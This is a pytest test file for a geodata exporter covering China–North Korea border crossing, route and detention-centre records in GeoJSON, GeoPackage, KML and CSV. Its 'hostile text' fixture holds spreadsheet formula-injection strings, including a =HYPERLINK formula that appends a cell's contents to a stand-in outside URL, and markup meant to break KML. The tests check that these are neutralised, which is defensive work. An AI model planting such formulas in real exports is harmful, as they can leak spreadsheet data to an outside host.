"""Exports: a round trip per format against the raw data files, the citation manifest, formula
neutralisation in CSV only, caveats in every format, the command line, and data/ left untouched."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import sqlite3
import stat
import subprocess
import sys
import zipfile
from datetime import UTC, date, datetime
from pathlib import Path
from xml.etree import ElementTree as ET

import geopandas as gpd
import pyogrio
import pytest
import shapely
from shapely.geometry import LineString, Point, shape

from geo import atomic
from geo.atomic import write_bytes_atomic
from geo.export import (
    FORMATS,
    KML_NS,
    ExportError,
    build_export,
    citation_text,
    neutralise_formula,
    write_export,
)
from geo.filters import FilterSpec, apply_filters, count_features
from geo.io import load_dataset
from geo.schema import LAYERS

ROOT = Path(__file__).resolve().parents[1]
DATA_DIR = ROOT / "data"
MOMENT = datetime(2024, 3, 1, 12, 30, 5, tzinfo=UTC)
SOURCE_COLUMNS = ("source_ids", "count_source_ids", "coord_source_ids")
Q = f"{{{KML_NS}}}"

TUMEN_OCTOBER = FilterSpec(date(2023, 10, 1), date(2023, 10, 31), crossings=("x-tumen-namyang",))
SPECS = {
    "everything": FilterSpec(),
    "tumen-october": TUMEN_OCTOBER,
    "nothing": FilterSpec(date(1990, 1, 1), date(1990, 1, 2), kinds=("arrest",)),
}


@pytest.fixture(scope="module")
def dataset():
    return load_dataset()


@pytest.fixture(scope="module")
def raw() -> dict[str, dict]:
    """Every feature of the data files as written (id → layer, properties, geometry)."""
    features = {}
    for layer in LAYERS:
        for feature in json.loads((DATA_DIR / f"{layer}.geojson").read_text(encoding="utf-8"))["features"]:
            features[feature["properties"]["id"]] = {
                "layer": layer,
                "properties": feature["properties"],
                "geometry": feature["geometry"],
            }
    return features


def export(dataset, spec: FilterSpec, fmt: str):
    return build_export(dataset, apply_filters(dataset.layers, spec), spec, fmt, exported_at=MOMENT)


def flat(value: object) -> str:
    """How a flat format (CSV, KML) writes a raw JSON value."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, list):
        return ";".join(value)
    return str(value)


def raw_coordinates(geometry: dict | None) -> list[tuple[float, float]]:
    if geometry is None:
        return []
    if geometry["type"] == "Point":
        return [tuple(geometry["coordinates"])]
    return [tuple(c) for c in geometry["coordinates"]]


def shape_coordinates(geometry) -> list[tuple[float, float]]:
    return [] if geometry is None else [(x, y) for x, y, *_ in geometry.coords]


def expected_ids(dataset, spec: FilterSpec) -> set[str]:
    return {fid for gdf in apply_filters(dataset.layers, spec).values() for fid in gdf["id"]}


# ------------------------------------------------------------------------------- round trips


@pytest.mark.parametrize("spec_name", ["everything", "tumen-october"])
def test_geojson_round_trip(dataset, raw, spec_name):
    spec = SPECS[spec_name]
    result = export(dataset, spec, "geojson")
    document = json.loads(result.data)
    features = document["features"]
    assert {f["id"] for f in features} == expected_ids(dataset, spec)
    for feature in features:
        source = raw[feature["id"]]
        props = feature["properties"]
        assert props["layer"] == source["layer"]
        for key, value in source["properties"].items():
            assert props[key] == value, (feature["id"], key)
            assert type(props[key]) is type(value), (feature["id"], key)  # integers stay integers
        coords = [] if feature["geometry"] is None else raw_coordinates(feature["geometry"])
        assert coords == raw_coordinates(source["geometry"])
    # geopandas reads it back with the same coordinates
    gdf = gpd.read_file(io.BytesIO(result.data))
    assert len(gdf) == len(features)
    by_id = dict(zip(gdf["id"], gdf.geometry, strict=True))
    for fid in by_id:
        assert shape_coordinates(by_id[fid]) == raw_coordinates(raw[fid]["geometry"])


def test_geojson_keeps_korean_chinese_and_unknown_counts(dataset):
    document = json.loads(export(dataset, FilterSpec(), "geojson").data)
    props = {f["id"]: f["properties"] for f in document["features"]}
    assert props["x-tumen-namyang"]["name_ko"] == "도문–남양"
    assert props["x-tumen-namyang"]["name_zh"] == "图们–南阳"
    assert props["x-tumen-namyang"]["count_low"] == 300
    assert props["x-changbai-hyesan"]["count_low"] is None  # unknown, not 0
    assert props["x-changbai-hyesan"]["count_high"] is None
    assert document["crossings_citation"]["dataset_version"] == dataset.version


@pytest.mark.parametrize("spec_name", ["everything", "tumen-october"])
def test_gpkg_round_trip(dataset, raw, spec_name, tmp_path):
    spec = SPECS[spec_name]
    path = tmp_path / "export.gpkg"
    path.write_bytes(export(dataset, spec, "gpkg").data)
    layers = {name for name, _ in pyogrio.list_layers(path)}
    assert set(LAYERS) <= layers
    seen = set()
    with sqlite3.connect(path) as connection:
        connection.row_factory = sqlite3.Row
        for layer in LAYERS:
            for row in connection.execute(f'SELECT * FROM "{layer}"'):
                fid = row["id"]
                seen.add(fid)
                assert raw[fid]["layer"] == layer
                for key, value in raw[fid]["properties"].items():
                    stored = row[key]
                    if isinstance(value, list):
                        assert stored == ";".join(value), (fid, key)
                    elif isinstance(value, bool):
                        assert stored == int(value), (fid, key)
                    else:
                        assert stored == value, (fid, key)  # None stays NULL, ints stay ints, text stays text
    assert seen == expected_ids(dataset, spec)
    info = pyogrio.read_info(path, layer="crossings")
    types = dict(zip(info["fields"], info["ogr_types"], strict=True))
    assert types["count_low"] == "OFTInteger64"
    assert types["uncertainty_m"] == "OFTInteger64"
    for layer in LAYERS:
        gdf = gpd.read_file(path, layer=layer)
        assert gdf.crs.to_epsg() == 4326
        for fid, geometry in zip(gdf["id"], gdf.geometry, strict=True):
            assert shape_coordinates(geometry) == raw_coordinates(raw[fid]["geometry"])


def kml_placemarks(data: bytes) -> dict[str, tuple[dict[str, str], list[tuple[float, float]], str]]:
    root = ET.fromstring(data)
    out = {}
    for placemark in root.iter(f"{Q}Placemark"):
        fields = {d.get("name"): d.text or "" for d in placemark.iter(f"{Q}SimpleData")}
        coords_el = placemark.find(f".//{Q}coordinates")
        coords = []
        if coords_el is not None:
            for pair in coords_el.text.split():
                x, y = pair.split(",")
                coords.append((float(x), float(y)))
        out[fields["id"]] = (fields, coords, placemark.findtext(f"{Q}description") or "")
    return out


@pytest.mark.parametrize("spec_name", ["everything", "tumen-october"])
def test_kml_round_trip(dataset, raw, spec_name, tmp_path):
    spec = SPECS[spec_name]
    data = export(dataset, spec, "kml").data
    placemarks = kml_placemarks(data)
    assert set(placemarks) == expected_ids(dataset, spec)
    for fid, (fields, coords, _) in placemarks.items():
        for key, value in raw[fid]["properties"].items():
            if value is None:
                assert key not in fields, (fid, key)  # an unknown value has no SimpleData at all
            elif isinstance(value, bool):
                assert fields[key] == ("1" if value else "0"), (fid, key)
            else:
                assert fields[key] == flat(value), (fid, key)
        assert coords == raw_coordinates(raw[fid]["geometry"])
    # GDAL reads it too: one layer per folder, every placemark
    path = tmp_path / "export.kml"
    path.write_bytes(data)
    total = sum(len(gpd.read_file(path, layer=name)) for name, _ in pyogrio.list_layers(path))
    assert total == len(placemarks)


@pytest.mark.parametrize("spec_name", ["everything", "tumen-october"])
def test_csv_round_trip(dataset, raw, spec_name):
    spec = SPECS[spec_name]
    data = export(dataset, spec, "csv").data
    assert data.startswith(b"\xef\xbb\xbf")  # UTF-8 byte-order mark for spreadsheet programs
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert {r["id"] for r in rows} == expected_ids(dataset, spec)
    for row in rows:
        source = raw[row["id"]]
        assert row["layer"] == source["layer"]
        for key, value in source["properties"].items():
            assert row[key] == neutralise_formula(flat(value)), (row["id"], key)
        geometry = source["geometry"]
        if geometry is None:
            assert row["wkt"] == row["lon"] == row["lat"] == ""
            continue
        parsed = shapely.from_wkt(row["wkt"])
        assert shape_coordinates(parsed) == raw_coordinates(geometry)  # every digit survives
        if geometry["type"] == "Point":
            assert (float(row["lon"]), float(row["lat"])) == tuple(geometry["coordinates"])
    tumen = next((r for r in rows if r["id"] == "x-tumen-namyang"), None)
    if tumen:
        assert tumen["name_ko"] == "도문–남양"
        assert tumen["count_low"] == "300"  # an integer, not 300.0


def test_unknown_counts_stay_empty_in_every_format(dataset, tmp_path):
    spec = FilterSpec(crossings=("x-changbai-hyesan",))
    geojson = json.loads(export(dataset, spec, "geojson").data)
    props = next(f["properties"] for f in geojson["features"] if f["id"] == "x-changbai-hyesan")
    assert props["count_low"] is None and props["count_high"] is None
    rows = list(csv.DictReader(io.StringIO(export(dataset, spec, "csv").data.decode("utf-8-sig"))))
    row = next(r for r in rows if r["id"] == "x-changbai-hyesan")
    assert row["count_low"] == row["count_high"] == ""
    fields = kml_placemarks(export(dataset, spec, "kml").data)["x-changbai-hyesan"][0]
    assert "count_low" not in fields and "count_high" not in fields
    path = tmp_path / "x.gpkg"
    path.write_bytes(export(dataset, spec, "gpkg").data)
    with sqlite3.connect(path) as connection:
        low, high = connection.execute(
            "SELECT count_low, count_high FROM crossings WHERE id = 'x-changbai-hyesan'"
        ).fetchone()
    assert low is None and high is None


# ------------------------------------------------------------------------------- caveats


CAVEAT_CHECKS = {
    "leg-tumen-dc-crossing": ("inferred route", "schematic line"),
    "leg-baishan-nanping": ("reported route", "schematic line"),
    "dc-baishan": ("city-level location (Baishan), not the facility",),
    "dc-jangchun": ("city-level location (Changchun (if 'Jangchun' is Changchun)), not the facility",),
    "x-hunchun-kyongwon": ("city-level location, not the crossing point",),
}


def caveats_by_format(dataset, tmp_path) -> dict[str, dict[str, dict[str, object]]]:
    spec = FilterSpec()
    out: dict[str, dict[str, dict[str, object]]] = {}
    geojson = json.loads(export(dataset, spec, "geojson").data)
    out["geojson"] = {f["id"]: f["properties"] for f in geojson["features"]}
    out["csv"] = {
        r["id"]: r for r in csv.DictReader(io.StringIO(export(dataset, spec, "csv").data.decode("utf-8-sig")))
    }
    out["kml"] = {fid: fields for fid, (fields, _, _) in kml_placemarks(export(dataset, spec, "kml").data).items()}
    path = tmp_path / "c.gpkg"
    path.write_bytes(export(dataset, spec, "gpkg").data)
    out["gpkg"] = {}
    with sqlite3.connect(path) as connection:
        connection.row_factory = sqlite3.Row
        for layer in LAYERS:
            for row in connection.execute(f'SELECT * FROM "{layer}"'):
                out["gpkg"][row["id"]] = dict(row)
    return out


def test_inferred_routes_and_city_level_locations_are_marked_in_every_format(dataset, tmp_path):
    exported = caveats_by_format(dataset, tmp_path)
    assert set(exported) == set(FORMATS)
    for fmt, rows in exported.items():
        for fid, phrases in CAVEAT_CHECKS.items():
            for phrase in phrases:
                assert phrase in str(rows[fid]["caveat"]), (fmt, fid, phrase)
        leg = rows["leg-tumen-dc-crossing"]
        assert leg["evidence"] == "inferred", fmt
        assert str(leg["schematic"]) in ("True", "true", "1"), fmt
        assert leg["confidence"] == "inferred", fmt
        centre = rows["dc-baishan"]
        assert centre["location_precision"] == "city", fmt
        assert str(centre["uncertainty_m"]) == "10000", fmt


def test_kml_description_carries_the_caveat_and_inferred_legs_have_their_own_style(dataset):
    data = export(dataset, FilterSpec(), "kml").data
    placemarks = kml_placemarks(data)
    assert placemarks["leg-tumen-dc-crossing"][2].startswith("inferred route")
    root = ET.fromstring(data)
    styles = {
        p.findtext(f".//{Q}SimpleData[@name='id']"): p.findtext(f"{Q}styleUrl") for p in root.iter(f"{Q}Placemark")
    }
    assert styles["leg-tumen-dc-crossing"] == "#leg-inferred"
    assert styles["leg-baishan-nanping"] == "#leg-reported"


# ------------------------------------------------------------------------------- citation manifest


@pytest.mark.parametrize("spec_name", list(SPECS))
def test_manifest_lists_exactly_the_sources_of_the_exported_rows(dataset, raw, spec_name):
    spec = SPECS[spec_name]
    result = export(dataset, spec, "geojson")
    ids = expected_ids(dataset, spec)
    cited = {sid for fid in ids for column in SOURCE_COLUMNS for sid in raw[fid]["properties"].get(column) or []}
    manifest = json.loads(result.citation_json)
    assert {s["id"] for s in manifest["sources"]} == cited
    sources = dataset.sources.set_index("id")
    for entry in manifest["sources"]:
        assert entry["outlet"] == sources.loc[entry["id"], "outlet"]
        assert entry["url"] == sources.loc[entry["id"], "url"]
        assert entry["is_mirror"] == (sources.loc[entry["id"], "is_mirror"] == "true")
        citing = {
            fid for fid in ids if any(entry["id"] in (raw[fid]["properties"].get(c) or []) for c in SOURCE_COLUMNS)
        }
        assert set(entry["cited_by"]) == citing
    text = result.citation_txt.decode("utf-8")
    listed = {line.split("]")[0][1:] for line in text.splitlines() if line.startswith("[")}
    assert listed == cited


def test_manifest_has_version_filter_time_and_licences(dataset):
    spec = TUMEN_OCTOBER
    result = export(dataset, spec, "csv")
    manifest = result.citation
    shown = count_features(apply_filters(dataset.layers, spec))
    assert manifest["dataset_version"] == dataset.version
    assert manifest["exported_at"] == "2024-03-01T12:30:05Z"
    assert manifest["filter"] == (
        f"Showing {shown} of {dataset.total_features()} features: 1–31 Oct 2023, crossing Tumen–Namyang (Onsong County)"
    )
    assert manifest["rows"] == shown
    assert manifest["filter_spec"]["crossings"] == ["x-tumen-namyang"]
    files = {entry["file"] for entry in manifest["licences"]}
    assert "data/crossings.geojson" in files and "data/sources.csv" in files
    for entry in manifest["licences"]:
        assert entry["licence"] == dataset.manifest.files[entry["file"].removeprefix("data/")]["licence"]
    text = citation_text(manifest)
    for needle in (dataset.version, "2024-03-01T12:30:05Z", manifest["filter"], "CC BY 4.0", "[S10]"):
        assert needle in text


def test_zip_bundle_holds_the_file_and_both_manifests(dataset):
    result = export(dataset, TUMEN_OCTOBER, "kml")
    with zipfile.ZipFile(io.BytesIO(result.zip_bytes())) as archive:
        names = archive.namelist()
        assert names == [result.file_name, f"{result.file_name}.citation.json", f"{result.file_name}.citation.txt"]
        assert archive.read(result.file_name) == result.data
        assert json.loads(archive.read(names[1]))["sources"] == result.citation["sources"]


def test_an_empty_selection_exports_valid_empty_files(dataset, tmp_path):
    spec = SPECS["nothing"]
    assert json.loads(export(dataset, spec, "geojson").data)["features"] == []
    rows = list(csv.reader(io.StringIO(export(dataset, spec, "csv").data.decode("utf-8-sig"))))
    assert len(rows) == 1  # the header only
    assert kml_placemarks(export(dataset, spec, "kml").data) == {}
    path = tmp_path / "empty.gpkg"
    path.write_bytes(export(dataset, spec, "gpkg").data)
    assert all(len(gpd.read_file(path, layer=layer)) == 0 for layer in LAYERS)
    assert export(dataset, spec, "csv").citation["sources"] == []


# ------------------------------------------------------------------------------- hostile text


HOSTILE = {
    "name_en": '=HYPERLINK("http://example.invalid/?q="&A1,"click")',
    "name_ko": "+1",
    "name_zh": "@SUM(A1:A9)",
    "notes": "-2+3 <b>bold</b> & \"quoted\" ]]> 'single'",
    "reported": "\tstarts with a tab",
}


@pytest.fixture
def hostile_dataset(make_data_dir, make_feature):
    data_dir = make_data_dir({"crossings": [make_feature("crossings", **HOSTILE)]})
    return load_dataset(data_dir)


def test_formula_like_text_is_neutralised_in_csv_only(hostile_dataset, tmp_path):
    spec = FilterSpec()
    rows = list(csv.DictReader(io.StringIO(export(hostile_dataset, spec, "csv").data.decode("utf-8-sig"))))
    crossing = next(r for r in rows if r["id"] == "x-test")
    for key, value in HOSTILE.items():
        assert crossing[key] == "'" + value, key
    geojson = json.loads(export(hostile_dataset, spec, "geojson").data)
    props = next(f["properties"] for f in geojson["features"] if f["id"] == "x-test")
    for key, value in HOSTILE.items():
        assert props[key] == value, key
    fields = kml_placemarks(export(hostile_dataset, spec, "kml").data)["x-test"][0]
    for key, value in HOSTILE.items():
        assert fields[key] == value, key
    path = tmp_path / "h.gpkg"
    path.write_bytes(export(hostile_dataset, spec, "gpkg").data)
    with sqlite3.connect(path) as connection:
        connection.row_factory = sqlite3.Row
        stored = dict(connection.execute("SELECT * FROM crossings WHERE id = 'x-test'").fetchone())
    for key, value in HOSTILE.items():
        assert stored[key] == value, key


def test_kml_escapes_markup_instead_of_interpreting_it(hostile_dataset):
    data = export(hostile_dataset, FilterSpec(), "kml").data
    assert b"<b>bold</b>" not in data
    assert b"&lt;b&gt;bold&lt;/b&gt;" in data


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        *[("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM", "'@SUM"), ("\tx", "'\tx"), ("\rx", "'\rx")],
        *[("Tumen", "Tumen"), ("도문", "도문"), ("a=b", "a=b"), ("", "")],
    ],
)
def test_neutralise_formula(text, expected):
    assert neutralise_formula(text) == expected


# ------------------------------------------------------------------------------- files, CLI, data/


def data_hashes() -> dict[str, str]:
    return {
        p.relative_to(DATA_DIR).as_posix(): hashlib.sha256(p.read_bytes()).hexdigest()
        for p in sorted(DATA_DIR.rglob("*"))
        if p.is_file()
    }


def test_exports_never_touch_data(dataset, tmp_path):
    before = data_hashes()
    manifest_before = json.loads((DATA_DIR / "manifest.json").read_text(encoding="utf-8"))
    for fmt in FORMATS:
        result = export(dataset, FilterSpec(), fmt)
        write_export(result, tmp_path / f"all.{fmt}")
    with pytest.raises(ExportError, match="data directory"):
        write_export(export(dataset, FilterSpec(), "csv"), DATA_DIR / "oops.csv")
    assert data_hashes() == before
    manifest_after = json.loads((DATA_DIR / "manifest.json").read_text(encoding="utf-8"))
    assert manifest_after == manifest_before
    for relative, entry in manifest_after["files"].items():
        assert before[relative] == entry["sha256"], relative


def run_cli(*args: str) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-m", "geo", "export", *args], cwd=ROOT, capture_output=True, text=True, timeout=120
    )


def test_cli_writes_the_export_and_its_manifest(dataset, tmp_path):
    before = data_hashes()
    out = tmp_path / "tumen.csv"
    result = run_cli(
        "--format",
        "csv",
        "--from",
        "2023-10-01",
        "--to",
        "2023-10-31",
        "--crossing",
        "x-tumen-namyang",
        "--out",
        str(out),
    )
    assert result.returncode == 0, result.stderr
    manifest = json.loads((tmp_path / "tumen.csv.citation.json").read_text(encoding="utf-8"))
    text = (tmp_path / "tumen.csv.citation.txt").read_text(encoding="utf-8")
    expected = export(dataset, TUMEN_OCTOBER, "csv")
    assert manifest["filter"] == expected.citation["filter"]
    assert manifest["sources"] == expected.citation["sources"]
    assert manifest["file"] == "tumen.csv"
    assert manifest["filter"] in text
    rows = list(csv.DictReader(io.StringIO(out.read_bytes().decode("utf-8-sig"))))
    assert {r["id"] for r in rows} == expected_ids(dataset, TUMEN_OCTOBER)
    assert sorted(p.name for p in tmp_path.iterdir()) == [
        "tumen.csv",
        "tumen.csv.citation.json",
        "tumen.csv.citation.txt",
    ]
    assert data_hashes() == before


def test_cli_gpkg_and_its_refusals(tmp_path):
    out = tmp_path / "all.gpkg"
    assert run_cli("--format", "gpkg", "--out", str(out)).returncode == 0
    assert {name for name, _ in pyogrio.list_layers(out)} >= set(LAYERS)
    refused = run_cli("--format", "kml", "--out", str(DATA_DIR / "x.kml"))
    assert refused.returncode == 2 and "data directory" in refused.stderr
    assert not (DATA_DIR / "x.kml").exists()
    unknown = run_cli("--format", "kml", "--crossing", "nowhere", "--out", str(tmp_path / "x.kml"))
    assert unknown.returncode == 2 and "unknown crossing 'nowhere'" in unknown.stderr
    backwards = run_cli(
        "--format", "kml", "--from", "2024-01-01", "--to", "2023-01-01", "--out", str(tmp_path / "x.kml")
    )
    assert backwards.returncode == 2 and "before it starts" in backwards.stderr
    assert not (tmp_path / "x.kml").exists()


def test_write_bytes_atomic_replaces_whole_files_and_cleans_up(tmp_path, monkeypatch):
    target = tmp_path / "file.txt"
    write_bytes_atomic(target, b"first")
    assert target.read_bytes() == b"first"
    assert stat.S_IMODE(target.stat().st_mode) == 0o644
    write_bytes_atomic(target, b"second")
    assert target.read_bytes() == b"second"

    def broken_replace(src, dst):
        raise OSError("disk full")

    monkeypatch.setattr(atomic.os, "replace", broken_replace)
    with pytest.raises(OSError, match="disk full"):
        write_bytes_atomic(target, b"third")
    assert target.read_bytes() == b"second"  # the old file is intact
    assert os.listdir(tmp_path) == ["file.txt"]  # and no temporary file is left behind


def test_points_and_lines_keep_full_precision(make_data_dir, make_feature):
    x, y = 129.85083 + 1e-12, 42.95444 + 1 / 3e6
    line = LineString([(126.4147 + 0.1 + 0.2, 41.944), (x, y)])
    data_dir = make_data_dir(
        {
            "crossings": [make_feature("crossings", geometry=Point(x, y))],
            "routes": [make_feature("routes", geometry=line)],
        }
    )
    small = load_dataset(data_dir)
    for fmt in ("geojson", "csv"):
        result = build_export(small, small.layers, FilterSpec(), fmt)
        if fmt == "geojson":
            geometries = {f["id"]: shape(f["geometry"]) for f in json.loads(result.data)["features"] if f["geometry"]}
        else:
            rows = csv.DictReader(io.StringIO(result.data.decode("utf-8-sig")))
            geometries = {r["id"]: shapely.from_wkt(r["wkt"]) for r in rows if r["wkt"]}
        assert geometries["x-test"].coords[0] == (x, y), fmt
        assert list(geometries["leg-test"].coords) == list(line.coords), fmt
